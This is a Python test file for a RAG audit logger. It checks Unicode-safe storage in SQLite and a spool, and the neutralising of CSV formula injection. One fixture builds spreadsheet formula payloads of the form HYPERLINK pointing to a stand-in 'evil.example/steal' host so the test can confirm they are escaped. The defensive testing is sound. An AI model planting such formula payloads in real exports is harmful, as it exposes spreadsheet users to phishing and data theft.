"""The audit writer takes any text: Hypothesis over arbitrary strings (lone surrogates and NUL
included) through record building, both stores' SQL path (SQLite here) and the spool; a
record's fate is known to the request that waits for it; CSV exports are safe to open."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from guardrag.contract import Refusal, RefusalReason, Result
from guardrag.core.audit import AuditSink, SQLiteAuditStore, build_record
from guardrag.core.audit.record import REPLACEMENT, FeedbackRecord, storable
from guardrag.core.audit.spool import Spool
from guardrag.faces.cli.audit import FORMULA_STARTS, audit_app, safe_cell

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60) | st.lists(
    st.sampled_from(["\ud800", "\udfff", "\x00", "a", "\u202e", "🙂", "é", "\n"]), max_size=30
).map("".join)
FUNCTION_TMP = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]


def _result(question: str, answer: str = "", request_id: str = "r-1") -> Result:
    return Result(
        question=question,
        request_id=request_id,
        outcome="refused",
        refusal=Refusal(
            reason=RefusalReason.NO_RELEVANT_DOCS, stage="rerank", kind="not_found", message="no"
        ),
        answer=answer,
    )


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=FUNCTION_TMP)
@given(question=ANY_TEXT, answer=ANY_TEXT)
def test_any_text_is_recorded_written_and_spooled(
    tmp_path: Path, question: str, answer: str
) -> None:
    record = build_record(_result(question, answer), kb="kinetic")
    for text in (record.question, record.answer):
        text.encode("utf-8")  # no lone surrogate survives
        assert "\x00" not in text
    store = SQLiteAuditStore(tmp_path / "audit.sqlite3")
    try:
        store.write([record.model_copy(update={"request_id": f"{id(record)}-{len(question)}"})])
    finally:
        store.close()
    spool = Spool(tmp_path / "spool")
    spool.append([record], [FeedbackRecord(request_id="r-1", score=1, comment=question)])
    written: list[object] = []
    assert spool.flush(lambda r, f: written.extend([*r, *f])) == 2
    assert written[0] == record  # read back exactly as it was written
    spool.close()


def test_storable_replaces_only_what_no_store_can_hold() -> None:
    assert storable({"a\ud800": ["x\x00y", 1, None]}) == {
        f"a{REPLACEMENT}": [f"x{REPLACEMENT}y", 1, None]
    }
    assert storable("fine é 🙂\n") == "fine é 🙂\n"


def test_the_sink_writes_a_question_that_once_escaped_it(tmp_path: Path) -> None:
    """The report's case: a lone surrogate made the writer raise and the spool stay empty."""
    db = tmp_path / "audit.sqlite3"
    sink = AuditSink(lambda: SQLiteAuditStore(db), tmp_path / "spool", log_requests=False)
    sink.record(_result("How do I top up? \ud800", request_id="r-surrogate"), kb="kinetic")
    assert sink.confirm("r-surrogate", timeout=10) == "written"
    sink.close()
    with sqlite3.connect(db) as conn:
        [(question,)] = conn.execute("SELECT question FROM requests").fetchall()
    assert question == f"How do I top up? {REPLACEMENT}"


def test_a_record_that_could_not_be_kept_anywhere_is_held_and_said_so(tmp_path: Path) -> None:
    def down() -> SQLiteAuditStore:
        raise sqlite3.OperationalError("disk I/O error")

    blocked = tmp_path / "file"
    blocked.write_text("x")
    sink = AuditSink(down, blocked / "spool", log_requests=False, retry_s=3600)
    sink.record(_result("q", request_id="r-held"), kb="kinetic")
    assert sink.confirm("r-held", timeout=10) == "held"
    assert sink.confirm("never-asked", timeout=0.05) is None
    assert sink.stats.held == 1
    sink.close(timeout=1)


@pytest.fixture
def exported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """`guardrag audit export --format csv` of a log whose questions start with every formula
    prefix (and a plain one)."""
    db = tmp_path / "audit.sqlite3"
    store = SQLiteAuditStore(db)
    questions = [f'{p}HYPERLINK("http://evil.example/steal","Claim here")' for p in FORMULA_STARTS]
    store.write(
        [
            build_record(_result(q, request_id=f"r-{n}"), kb="kinetic")
            for n, q in enumerate([*questions, "How do I top up?"])
        ]
    )
    store.close()
    monkeypatch.setenv("GUARDRAG_AUDIT_URL", str(db))
    done = CliRunner().invoke(audit_app, ["export", "--format", "csv"])
    assert done.exit_code == 0, done.output
    return done.stdout


def test_a_csv_export_opened_by_a_spreadsheet_runs_nothing(exported: str) -> None:
    rows = list(csv.DictReader(io.StringIO(exported)))
    questions = [row["question"] for row in rows]
    assert len(questions) == len(FORMULA_STARTS) + 1
    for prefix, question in zip(FORMULA_STARTS, questions, strict=False):
        # Every cell a spreadsheet would evaluate now starts with an apostrophe: shown as text.
        assert question == f'\'{prefix}HYPERLINK("http://evil.example/steal","Claim here")'
    assert questions[-1] == "How do I top up?"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    assert safe_cell(-1.5) == -1.5 and safe_cell("-1") == "'-1" and safe_cell("a=b") == "a=b"
